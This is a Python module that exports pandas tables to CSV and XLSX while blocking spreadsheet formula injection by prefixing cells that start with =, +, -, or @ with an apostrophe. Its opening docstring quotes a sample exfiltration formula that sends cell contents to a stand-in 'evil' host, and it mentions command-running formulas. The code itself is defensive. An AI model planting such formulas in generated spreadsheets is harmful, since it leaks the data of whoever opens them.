"""Tables out to spreadsheets without formula injection.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://evil/?"&A1,"click")``
leaks data; ``=cmd|...`` used to run programs). ``safe_cells`` puts an apostrophe before such
text so it shows as text (OWASP "CSV injection"). Numbers stay numbers: ``-5`` in a numeric
column is a number, not text, and is written as one.
"""

from __future__ import annotations

import datetime as dt
import io
import os
from collections.abc import Iterable
from pathlib import Path
from typing import TextIO

import numpy as np
import pandas as pd

from aliexp_lib.formulas import FORMULA_STARTS, safe_cells
from aliexp_lib.own_marks import AUTHOR, xlsx_author
from aliexp_lib.safe_write import write_file, write_pieces
from aliexp_lib.table_bytes import csv_chunks


def dates_as_text(table: pd.DataFrame) -> pd.DataFrame:
    """A shallow copy of ``table`` with every datetime column as ``YYYY-MM-DD`` text (categorical).

    Each distinct day is formatted once (a million deadlines fall on a few hundred days); a missing
    date (NaT) stays missing. ``table`` is not changed.

    Examples
    --------
    >>> table = pd.DataFrame({"due": pd.to_datetime(["2026-03-11 00:00", None, "2026-03-11 18:00"])})
    >>> dates_as_text(table)["due"].tolist()
    ['2026-03-11', nan, '2026-03-11']
    """
    dates = [c for c in table.columns if pd.api.types.is_datetime64_any_dtype(table[c])]
    return table.assign(**{c: day_text(table[c]) for c in dates}) if dates else table


def day_text(values: pd.Series) -> pd.Series:
    """Datetimes as categorical ``YYYY-MM-DD`` text, each distinct value formatted once (NaT stays missing).

    Examples
    --------
    >>> day_text(pd.Series(pd.to_datetime(["2026-03-11", None]))).tolist()
    ['2026-03-11', nan]
    """
    codes, moments = pd.factorize(values)  # NaT: -1
    day_codes, days = pd.factorize(pd.Index(moments).strftime("%Y-%m-%d"))  # two times of one day: one text
    codes = np.where(codes < 0, -1, day_codes[codes.clip(0)]) if len(day_codes) else codes
    return pd.Series(pd.Categorical.from_codes(codes, days), index=values.index)


def to_csv(
    table: pd.DataFrame,
    target: str | Path | TextIO,
    overwrite: bool = False,
    inputs: Iterable[str | os.PathLike] = (),
) -> None:
    """Write ``table`` as UTF-8 CSV (dates as ``YYYY-MM-DD``) to a path or an open text stream.

    Cells are made safe first (``safe_cells``); no index column; lines end in ``\\n``. A table
    with a carriage return in a text cell has every text field quoted, so a reader does not split
    the record there. A path is written by ``safe_write.write_file``: in one step, and over an
    existing file only if we wrote it (or with ``overwrite``).

    Parameters
    ----------
    table : pandas.DataFrame
        The table to write; datetime columns are written as dates (the time of day is dropped).
    target : str, path-like or text stream
        A file path (replaced whole), or an open text stream written at its position.
    overwrite : bool, default False
        Replace a file at the path that we did not write (``--overwrite``).
    inputs : iterable of path-like
        Files the command read: never written over.

    Returns
    -------
    None
        The file or stream is written.

    Examples
    --------
    >>> import io
    >>> import pandas as pd
    >>> out = io.StringIO()
    >>> to_csv(pd.DataFrame({"due": pd.to_datetime(["2026-03-20"]), "note": ["=1+1"]}), out)
    >>> print(out.getvalue(), end="")
    due,note
    2026-03-20,'=1+1
    """
    pieces = csv_chunks(dates_as_text(table))  # formulas made inert, a slice of rows at a time
    if isinstance(target, (str, os.PathLike)):
        write_pieces(target, pieces, overwrite=overwrite, inputs=inputs)
    else:
        write_text_pieces(pieces, target)


def write_text_pieces(pieces: Iterable[bytes], out: TextIO) -> None:
    """UTF-8 ``pieces`` onto a text stream: straight to its byte buffer where it has one (``sys.stdout``).

    Examples
    --------
    >>> import io
    >>> out = io.StringIO()
    >>> write_text_pieces([b"a,b\\n", "é\\n".encode()], out)
    >>> out.getvalue()
    'a,b\\né\\n'
    """
    buffer = getattr(out, "buffer", None)
    if buffer is not None and (getattr(out, "encoding", "") or "").lower().replace("-", "") == "utf8":
        out.flush()
        for piece in pieces:
            buffer.write(piece)
        buffer.flush()
    else:
        for piece in pieces:
            out.write(str(piece, "utf-8"))


def to_xlsx(
    table: pd.DataFrame,
    path: str | Path,
    sheet: str = "orders",
    overwrite: bool = False,
    inputs: Iterable[str | os.PathLike] = (),
) -> Path:
    """Write ``table`` to an XLSX workbook: text as text cells (never formulas), numbers as numbers.

    Cells are made safe first (``safe_cells``); missing values (NA, NaT, NaN) become empty cells;
    the header is the first row. The workbook's creator and last editor are ``own_marks.AUTHOR``,
    so a later run knows it may replace it (``ours_xlsx``); it is written by ``safe_write.write_file``.

    Parameters
    ----------
    table : pandas.DataFrame
        The table to write, without its index.
    path : str or path-like
        The workbook to write (replaced whole).
    sheet : str, default "orders"
        The name of the one worksheet.
    overwrite : bool, default False
        Replace a file at the path that we did not write (``--overwrite``).
    inputs : iterable of path-like
        Files the command read: never written over.

    Returns
    -------
    pathlib.Path
        ``path``.

    Examples
    --------
    >>> import tempfile
    >>> import pandas as pd
    >>> from openpyxl import load_workbook
    >>> with tempfile.TemporaryDirectory() as folder:
    ...     written = to_xlsx(pd.DataFrame({"title": ["=1+1"], "refund_minor": [-500]}), f"{folder}/out.xlsx")
    ...     sheet = load_workbook(written).active
    ...     [(cell.value, cell.data_type) for cell in sheet[2]]
    [("'=1+1", 's'), (-500, 'n')]
    """
    from openpyxl import Workbook

    path = Path(path)
    safe = safe_cells(table)
    book = Workbook()
    ws = book.active
    ws.title = sheet
    ws.append([str(c) for c in safe.columns])
    for row in safe.itertuples(index=False, name=None):
        ws.append([_cell(v) for v in row])
    for cells in ws.iter_rows(min_row=1):
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # openpyxl would otherwise turn text starting with "=" into a formula
    book.properties.creator = book.properties.lastModifiedBy = AUTHOR
    data = io.BytesIO()
    book.save(data)
    return write_file(path, data.getvalue(), ours=ours_xlsx, overwrite=overwrite, inputs=inputs)


def ours_xlsx(path: str | Path) -> bool:
    """Whether the workbook at ``path`` was written by ``to_xlsx`` and saved by nobody since.

    Its ``docProps/core.xml`` names ``own_marks.AUTHOR`` as creator and as last editor (a
    spreadsheet program that saves it puts the user's name as last editor).

    Examples
    --------
    >>> import tempfile
    >>> import pandas as pd
    >>> with tempfile.TemporaryDirectory() as folder:
    ...     ours_xlsx(to_xlsx(pd.DataFrame({"a": [1]}), f"{folder}/out.xlsx"))
    True
    """
    return xlsx_author(path) == (AUTHOR, AUTHOR)


def _cell(value: object) -> object:
    """``value`` as openpyxl takes it: None for missing, Python scalars for NumPy/pandas ones, else text."""
    if value is None or value is pd.NA or value is pd.NaT or (isinstance(value, float) and np.isnan(value)):
        return None
    if isinstance(value, pd.Timestamp):
        return value.to_pydatetime()
    if isinstance(value, np.generic):
        return value.item()
    if isinstance(value, (str, int, float, bool, dt.date, dt.datetime)):
        return value
    return str(value)


__all__ = [
    "FORMULA_STARTS",
    "dates_as_text",
    "day_text",
    "ours_xlsx",
    "safe_cells",
    "to_csv",
    "to_xlsx",
    "write_text_pieces",
]
